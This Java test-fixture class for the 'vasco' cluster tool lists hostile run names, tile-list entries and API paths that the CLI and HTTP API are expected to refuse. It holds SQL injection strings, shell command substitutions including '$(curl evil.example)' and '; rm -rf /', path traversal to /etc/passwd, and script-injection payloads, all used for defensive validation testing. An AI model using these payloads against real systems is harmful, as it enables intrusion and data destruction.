package org.vasco.testkit.hostile;

import java.util.ArrayList;
import java.util.List;
import org.vasco.common.text.UntrustedText;

/**
 * Names an operator or a client can hand the cluster — run names for {@code vasco submit --run}, tile-list
 * entries for {@code vasco submit --tiles}, and path segments of the HTTP API — that try to escape the data root,
 * reach a shell or an SQL string, forge log lines or inject markup. Every one must be refused before it touches a
 * path, a query or a page: {@code vasco submit} exits 2 writing nothing, the API answers 4xx with a JSON error.
 * The reasons are {@code EXIT_2} (the CLI's bad-request code) and {@code HTTP_400}/{@code HTTP_404}.
 */
public final class HostileNames {

    static final String CLI = "EXIT_2";
    static final String BAD_REQUEST = "HTTP_400";
    static final String NOT_FOUND = "HTTP_404";

    private HostileNames() {
    }

    /** Run names for {@code vasco submit --plate XE309 --run NAME}. */
    public static List<HostileCase<String>> runNames() {
        List<HostileCase<String>> cases = new ArrayList<>();
        cases.add(run("run-name-sql", "x'; drop table run;--"));
        cases.add(run("run-name-sql-comment", "run1\"/**/OR/**/1=1--"));
        cases.add(run("run-name-shell", "$(touch /tmp/vasco-pwned)"));
        cases.add(run("run-name-backticks", "`id`"));
        cases.add(run("run-name-path-traversal", "../../var/lib/vasco"));
        cases.add(run("run-name-absolute-path", "/etc/cron.d/vasco"));
        cases.add(run("run-name-newline", "run\nERROR forged log line"));
        cases.add(run("run-name-too-long", "r".repeat(65)));
        cases.add(run("run-name-homoglyph", "run-\u0430lpha"));
        cases.add(run("run-name-leading-dot", ".hidden"));
        return List.copyOf(cases);
    }

    /** Entries of a tile list for {@code vasco submit --tiles FILE}. */
    public static List<HostileCase<String>> tileListEntries() {
        List<HostileCase<String>> cases = new ArrayList<>();
        cases.add(tile("tile-entry-path-traversal", "../../../../etc/passwd"));
        cases.add(tile("tile-entry-traversal-suffix", "tile_RA130.013_DECp33.081/../../../etc"));
        cases.add(tile("tile-entry-shell", "tile_RA130.013_DECp33.081; rm -rf /"));
        cases.add(tile("tile-entry-command-substitution", "$(curl evil.example)"));
        cases.add(tile("tile-entry-sql", "tile_RA130.013_DECp33.081' OR '1'='1"));
        cases.add(tile("tile-entry-nul", "tile_RA130.013_DECp33.081\u0000.fits"));
        return List.copyOf(cases);
    }

    /** Raw (already percent-encoded where needed) paths of GET requests to the coordinator's API; {@code RUN} is replaced by a real run. */
    public static List<HostileCase<String>> apiPaths() {
        List<HostileCase<String>> cases = new ArrayList<>();
        cases.add(api("api-run-encoded-traversal", "/api/runs/%2e%2e%2f%2e%2e%2fetc%2fpasswd", BAD_REQUEST, "Invalid run name"));
        cases.add(api("api-run-sql", "/api/runs/x%27%3B%20drop%20table%20run%3B--", BAD_REQUEST, "Invalid run name 'x'; drop table run;--'"));
        cases.add(api("api-run-script", "/api/runs/%3Cscript%3Ealert(1)%3C%2Fscript%3E/tiles", BAD_REQUEST, "Invalid run name"));
        cases.add(api("api-stamp-traversal", "/api/runs/RUN/candidates/..%2F..%2Fetc%2Fpasswd:1/stamp.png", BAD_REQUEST,
                "Invalid candidate id"));
        cases.add(api("api-stamp-shell", "/api/runs/RUN/candidates/tile_RA1.000_DECp1.000%3Brm%20-rf:1/stamp.png", BAD_REQUEST,
                "Invalid candidate id"));
        cases.add(api("api-modern-stamp-traversal", "/api/runs/RUN/candidates/..%2F..%2Fetc%2Fpasswd:1/modern.png", BAD_REQUEST,
                "Invalid candidate id"));
        cases.add(api("api-review-page-script", "/review/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", BAD_REQUEST,
                "Invalid run name"));
        cases.add(api("api-review-sort-script", "/review/RUN?sort=%3Cscript%3Ealert(1)%3C%2Fscript%3E", BAD_REQUEST,
                "Query parameter sort='<script>alert(1)</script>' is not one of"));
        cases.add(api("api-review-plate-traversal", "/review/RUN?plate=..%2F..%2Fetc%2Fpasswd", BAD_REQUEST,
                "Query parameter plate='../../etc/passwd' is not a plate id"));
        cases.add(api("api-review-start-sql", "/review/RUN?start=x%27%3B%20drop%20table%20candidate%3B--", BAD_REQUEST,
                "Query parameter start: Invalid candidate id 'x'; drop table candidate;--'"));
        cases.add(api("api-review-unknown-parameter", "/review/RUN?offset=-1", BAD_REQUEST,
                "Unknown query parameter 'offset' on the review page"));
        cases.add(api("api-overlong-utf8-dots", "/api/runs/%C0%AE%C0%AE%2F%C0%AE%C0%AE%2Fetc", BAD_REQUEST, "Invalid run name"));
        cases.add(api("api-dot-segments", "/api/runs/RUN/../../../etc/passwd", NOT_FOUND, "No such resource"));
        return List.copyOf(cases);
    }

    private static HostileCase<String> run(String name, String value) {
        return new HostileCase<>("submit-run", name, "vasco submit --run " + UntrustedText.quoted(value), value,
                Expected.refused(CLI, "Invalid run name"));
    }

    private static HostileCase<String> tile(String name, String value) {
        return new HostileCase<>("submit-tiles", name, "a --tiles file whose entry is " + UntrustedText.quoted(value), value,
                Expected.refused(CLI, "is not a tile id"));
    }

    private static HostileCase<String> api(String name, String path, String reason, String phrase) {
        return new HostileCase<>("api-path", name, "GET " + path, path, Expected.refused(reason, phrase));
    }
}
